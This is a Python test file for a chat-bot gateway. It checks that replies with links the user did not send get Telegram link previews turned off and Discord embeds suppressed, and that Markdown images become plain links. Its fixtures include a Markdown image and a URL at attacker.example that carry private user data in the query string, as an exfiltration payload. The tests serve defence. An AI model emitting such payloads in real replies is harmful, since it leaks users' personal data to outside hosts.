"""No exfiltration through what the bot sends (issue 23, item 6), at the platforms.

A reply carrying a link the person did not send goes out with Telegram's link
previews off (``link_preview_options.is_disabled`` on every sendMessage and
editMessageText that carries it) and Discord's embeds suppressed (the
SUPPRESS_EMBEDS flag on the message, slash-command replies included); a reply
carrying only the person's link keeps them; a Markdown image arrives as a link.
The inbox here tells the reply which links the person sent, as a turn does.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Any

import pytest

from gateway.adapters.discord_endpoints import discord_endpoints
from gateway.delivery import LinkSink
from gateway.messages import InboundMessage, ReplySink
from tests.fakes.discord import FakeDiscord
from tests.fakes.telegram import ChatMessage, FakeTelegram
from tests.gateway.adapters import test_discord_adapter as discord_side
from tests.gateway.adapters import test_discord_commands as slash_side
from tests.gateway.adapters import test_telegram_adapter as telegram_side
from tests.gateway.adapters.inboxes import Inbox

SUPPRESS_EMBEDS = 1 << 2
ATTACKER = "https://attacker.example/c?d=alice-lives-in-lyon"
PLANTED = f"Saved. ![status]({ATTACKER})"
OWN = "https://example.com/menu"
GROUP = -100


class TrustingInbox(Inbox):
    """Answers with `reply`, having told the sink the links of the person's message."""

    async def handle(self, message: InboundMessage, sink: ReplySink, on_stored: Any = None) -> None:
        if isinstance(sink, LinkSink):
            sink.trust_links([message.text])
        await super().handle(message, sink, on_stored)


@pytest.fixture
async def tg() -> AsyncIterator[FakeTelegram]:
    async with FakeTelegram(token=telegram_side.TOKEN) as fake:
        yield fake


@pytest.fixture
async def dc() -> AsyncIterator[FakeDiscord]:
    async with FakeDiscord(guilds=(discord_side.GUILD,)) as fake:
        yield fake


@pytest.fixture
async def slash_dc() -> AsyncIterator[FakeDiscord]:
    async with FakeDiscord() as fake:
        with discord_endpoints(fake.api_base, fake.gateway_url):
            yield fake


def shown(message: ChatMessage) -> tuple[str, list[tuple[str, str, str | None]]]:
    """What the person sees: the text, and each entity as (type, text covered, url)."""
    text = message.text or ""
    units = text.encode("utf-16-le")
    spans = []
    for entity in message.entities or []:
        start, end = entity["offset"], entity["offset"] + entity["length"]
        covered = units[2 * start : 2 * end].decode("utf-16-le")
        spans.append((entity["type"], covered, entity.get("url")))
    return text, spans


async def telegram_answer(tg: FakeTelegram, inbox: Inbox, text: str) -> ChatMessage:
    """The bot's one message answering `text` in a group, as it stands at the end."""
    async with telegram_side.running(tg, inbox, group_trigger="all"):
        tg.inject_text(GROUP, 7, text)
        await tg.wait_until(lambda: len(inbox.messages) == 1 and tg.chat_messages(GROUP))
        await tg.wait_until(lambda: tg.calls_to("sendMessage"))
    [answer] = tg.chat_messages(GROUP)
    return answer


def preview_options(tg: FakeTelegram) -> list[Any]:
    calls = tg.calls_to("sendMessage") + tg.calls_to("editMessageText")
    assert calls
    return [call.params.get("link_preview_options") for call in calls]


async def test_telegram_a_foreign_link_goes_out_with_previews_off(tg: FakeTelegram) -> None:
    inbox = TrustingInbox(reply=lambda m: f"The menu is at {OWN}; also see {ATTACKER}")
    answer = await telegram_answer(tg, inbox, f"what is on {OWN}?")
    assert answer.link_preview_options == {"is_disabled": True}
    assert preview_options(tg) and all(o == {"is_disabled": True} for o in preview_options(tg))


async def test_telegram_the_persons_own_link_keeps_its_preview(tg: FakeTelegram) -> None:
    inbox = TrustingInbox(reply=lambda m: f"The menu is at {OWN}.")
    answer = await telegram_answer(tg, inbox, f"what is on {OWN}?")
    assert shown(answer)[0] == f"The menu is at {OWN}."
    assert answer.link_preview_options is None
    assert set(map(str, preview_options(tg))) == {"None"}


async def test_telegram_a_markdown_image_arrives_as_a_link(tg: FakeTelegram) -> None:
    answer = await telegram_answer(tg, TrustingInbox(reply=lambda m: PLANTED), "save it")
    assert shown(answer) == ("Saved. status", [("text_link", "status", ATTACKER)])
    assert answer.link_preview_options == {"is_disabled": True}


async def test_telegram_a_notice_with_a_link_has_previews_off(tg: FakeTelegram) -> None:
    inbox = TrustingInbox()
    async with telegram_side.running(tg, inbox) as adapter:
        tg.inject_text(42, 42, "hello")
        await tg.wait_until(lambda: tg.chat_messages(42))
        await adapter.notify(inbox.messages[0], f"I saved: {ATTACKER}")
        notice = await tg.wait_until(
            lambda: [m for m in tg.chat_messages(42) if "saved" in (m.text or "")]
        )
    assert notice[0].link_preview_options == {"is_disabled": True}


async def discord_answer(dc: FakeDiscord, inbox: Inbox, text: str) -> dict[str, Any]:
    async with discord_side.running(dc, inbox):
        await dc.inject_message(text, discord_side.ALICE, mentions_bot=True)
        await dc.wait_until(lambda: len(inbox.messages) == 1)
        await dc.wait_until(lambda: _bot_messages(dc))
    [answer] = _bot_messages(dc)
    return answer


def _bot_messages(dc: FakeDiscord) -> list[dict[str, Any]]:
    channel = dc.channel_messages(discord_side.CHANNEL)
    return [m for m in channel if m["author"]["id"] == str(discord_side.BOT_ID)]


async def test_discord_a_foreign_link_goes_out_with_embeds_suppressed(dc: FakeDiscord) -> None:
    inbox = TrustingInbox(reply=lambda m: f"The menu is at {OWN}; also see {ATTACKER}")
    answer = await discord_answer(dc, inbox, f"what is on {OWN}?")
    assert answer["content"].endswith(ATTACKER)
    assert answer["flags"] & SUPPRESS_EMBEDS


async def test_discord_the_persons_own_link_keeps_its_embed(dc: FakeDiscord) -> None:
    inbox = TrustingInbox(reply=lambda m: f"The menu is at {OWN}.")
    answer = await discord_answer(dc, inbox, f"what is on {OWN}?")
    assert answer["content"] == f"The menu is at {OWN}."
    assert not answer["flags"] & SUPPRESS_EMBEDS


async def test_discord_an_edit_that_adds_a_foreign_link_suppresses_embeds(
    dc: FakeDiscord,
) -> None:
    class Streaming(Inbox):
        async def handle(self, message: InboundMessage, sink: ReplySink, on_stored: Any) -> None:
            self.messages.append(message)
            await sink.write("Saved.")
            await dc.wait_until(lambda: _bot_messages(dc))  # shown without a link first
            await sink.write(f" ![status]({ATTACKER})")
            await sink.finish()

    answer = await discord_answer(dc, Streaming(), "save it")
    assert answer["content"] == f"Saved. [status]({ATTACKER})"  # an image no more
    assert answer["flags"] & SUPPRESS_EMBEDS


async def test_discord_a_slash_reply_with_a_foreign_link_suppresses_embeds(
    slash_dc: FakeDiscord,
) -> None:
    inbox = slash_side.RecordingInbox(reply=lambda m: f"From your past: {ATTACKER}")
    async with slash_side.running(slash_dc, inbox):
        interaction = await slash_dc.inject_command("help", slash_side.ADA)
        texts = await slash_side.answered(slash_dc, interaction)
    assert texts == [f"From your past: {ATTACKER}"]
    [message] = interaction.messages
    assert message["flags"] & SUPPRESS_EMBEDS


async def test_discord_a_slash_reply_without_links_replaces_the_deferred_response(
    slash_dc: FakeDiscord,
) -> None:
    async with slash_side.running(slash_dc, slash_side.RecordingInbox()):
        interaction = await slash_dc.inject_command("help", slash_side.ADA)
        assert await slash_side.answered(slash_dc, interaction) == ["ok: /help"]
    assert interaction.original is not None and interaction.original["content"] == "ok: /help"
    assert not interaction.followups
